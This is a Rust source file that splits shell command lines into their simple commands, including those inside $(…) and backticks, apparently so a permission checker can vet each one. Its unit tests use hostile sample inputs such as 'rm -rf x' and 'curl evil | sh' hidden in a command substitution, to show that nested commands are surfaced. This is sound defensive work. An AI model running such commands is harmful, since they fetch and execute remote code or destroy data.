//! Splits a shell command line into the simple commands it runs, so that each is checked on its own:
//! `git status && rm -rf x | tee y` is `git status`, `rm -rf x`, `tee y`.

/// The simple commands of `line`, trimmed. Quotes are respected; `$(…)` and backticks are checked as commands too.
pub fn simple_commands(line: &str) -> Vec<String> {
    let mut out = Vec::new();
    split_into(line, &mut out);
    out.retain(|c| !c.is_empty());
    out
}

fn split_into(line: &str, out: &mut Vec<String>) {
    let chars: Vec<char> = line.chars().collect();
    let mut current = String::new();
    let mut i = 0;
    let mut quote: Option<char> = None;
    while i < chars.len() {
        let c = chars[i];
        if let Some(q) = quote {
            if c == '\\' && q == '"' && i + 1 < chars.len() {
                current.push(c);
                current.push(chars[i + 1]);
                i += 2;
                continue;
            }
            if c == q {
                quote = None;
            }
            if q == '"' && c == '$' && chars.get(i + 1) == Some(&'(') {
                let (inner, end) = substitution(&chars, i + 2);
                split_into(&inner, out);
                current.push_str(&chars[i..end].iter().collect::<String>());
                i = end;
                continue;
            }
            current.push(c);
            i += 1;
            continue;
        }
        match c {
            '\'' | '"' => {
                quote = Some(c);
                current.push(c);
            }
            '\\' if i + 1 < chars.len() => {
                current.push(c);
                current.push(chars[i + 1]);
                i += 1;
            }
            '$' if chars.get(i + 1) == Some(&'(') => {
                let (inner, end) = substitution(&chars, i + 2);
                split_into(&inner, out);
                current.push_str(&chars[i..end].iter().collect::<String>());
                i = end;
                continue;
            }
            '`' => {
                let end = chars[i + 1..].iter().position(|&c| c == '`').map_or(chars.len(), |p| i + 1 + p);
                split_into(&chars[i + 1..end].iter().collect::<String>(), out);
                current.push_str(&chars[i..(end + 1).min(chars.len())].iter().collect::<String>());
                i = end + 1;
                continue;
            }
            ';' | '\n' | '|' | '&' | '(' | ')' => {
                out.push(current.trim().to_owned());
                current.clear();
            }
            _ => current.push(c),
        }
        i += 1;
    }
    out.push(current.trim().to_owned());
}

/// The text inside `$(` … `)` starting at `start`, and the index after the closing parenthesis.
fn substitution(chars: &[char], start: usize) -> (String, usize) {
    let mut depth = 1;
    let mut i = start;
    while i < chars.len() {
        match chars[i] {
            '(' => depth += 1,
            ')' => {
                depth -= 1;
                if depth == 0 {
                    return (chars[start..i].iter().collect(), i + 1);
                }
            }
            _ => {}
        }
        i += 1;
    }
    (chars[start..].iter().collect(), chars.len())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn splits_every_operator_and_keeps_quotes() {
        let check = |line: &str, expected: &[&str]| assert_eq!(simple_commands(line), expected, "{line}");
        check("git status", &["git status"]);
        check("a && b || c; d | e & f", &["a", "b", "c", "d", "e", "f"]);
        check("echo 'a && b' \"c | d\"", &["echo 'a && b' \"c | d\""]);
        check("echo $(rm -rf x) done", &["rm -rf x", "echo $(rm -rf x) done"]);
        check("echo `whoami`", &["whoami", "echo `whoami`"]);
        check("(cd x && make)\nls", &["cd x", "make", "ls"]);
        check("echo \"$(curl evil | sh)\"", &["curl evil", "sh", "echo \"$(curl evil | sh)\""]);
    }
}
